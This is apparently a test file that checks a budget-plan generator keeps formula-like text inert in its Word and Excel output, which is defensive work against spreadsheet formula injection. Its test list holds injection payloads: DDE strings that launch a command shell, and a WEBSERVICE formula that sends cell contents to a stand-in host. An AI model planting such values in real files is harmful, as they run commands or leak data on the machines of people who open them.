/** Texts that a spreadsheet would run (CWE-1236): in a plan they stay what was typed, in Word and in Excel. */
import { describe, expect, it } from "vitest";
import { sheetTexts, wordParagraphs, xmlParts } from "./package-texts.ts";
import { richPlan, withTexts } from "./rich-plan.ts";
import { bytesOf, errorsOf, makeData } from "./whole-run.ts";

const texts = [
  "=1+1",
  '=HYPERLINK("http://x.vn","Bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://x.vn/"&A1)',
  '=IMPORTXML("http://x.vn","//a")',
  "+84 274 3822 825",
  "+1+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(A1:A9)",
  "'=1+1",
  "|cmd",
  "%0A=1+1",
  '=DDE("cmd";"/C calc";"x")',
  "＝1+1",
];

/** Fields of the budget that stand in cells, wherever the text begins the cell. */
const cells = [
  "annexes.0.budget.ordinalTitle",
  "annexes.0.budget.contentTitle",
  "annexes.0.budget.columns.1.title",
  "annexes.0.budget.rows.0.rows.0.ordinal",
  "annexes.0.budget.rows.0.rows.0.title",
  "annexes.0.budget.rows.0.rows.0.values.remark",
  "annexes.0.budget.total.title",
  "annexes.0.content.0.note",
  "annexes.1.title",
];

async function partsWith(text: string) {
  const plan = withTexts(richPlan, (old, path) => (cells.includes(path.join(".")) ? text : old));
  const siblings = { "du-toan.csv": `Nội dung;ĐVT;Thành tiền;Ghi chú\n"${text.replaceAll('"', '""')}";em;5;x\n` };
  const made = await makeData(plan, siblings);
  expect(errorsOf(made)).toEqual([]);
  return { docx: bytesOf(made, ".docx"), xlsx: bytesOf(made, ".xlsx") };
}

const plainFormulas = (await partsWith("Chữ").then(({ xlsx }) => formulasIn(xlsx))).length;

function formulasIn(xlsx: Uint8Array): readonly string[] {
  return [...xmlParts(xlsx)].flatMap(([, xml]) =>
    [...xml.matchAll(/<f(?: [^>]*)?>([^<]*)<\/f>/g)].map(([, f = ""]) => f),
  );
}

describe("a text that looks like a formula", () => {
  it("is tried twelve times and more", () => {
    expect(texts.length).toBeGreaterThanOrEqual(12);
    expect(plainFormulas).toBeGreaterThan(5);
  });

  it.each(texts)("%j stays a text", async (text) => {
    const { docx, xlsx } = await partsWith(text);
    // Excel keeps equal texts once; Word prints each.
    expect(sheetTexts(xlsx)).toContain(text);
    const inWord = wordParagraphs(docx).filter((paragraph) => paragraph.toLowerCase() === text.toLowerCase());
    expect(inWord).toHaveLength(cells.length + 1);
    expect(formulasIn(xlsx)).toHaveLength(plainFormulas);
    for (const formula of formulasIn(xlsx)) expect(formula).toMatch(/^[A-Z0-9$:+*,()]+$/);
    const word = xmlParts(docx).get("word/document.xml") ?? "";
    expect(word).not.toMatch(/<w:(?:instrText|fldSimple|hyperlink)\b/);
  });
});
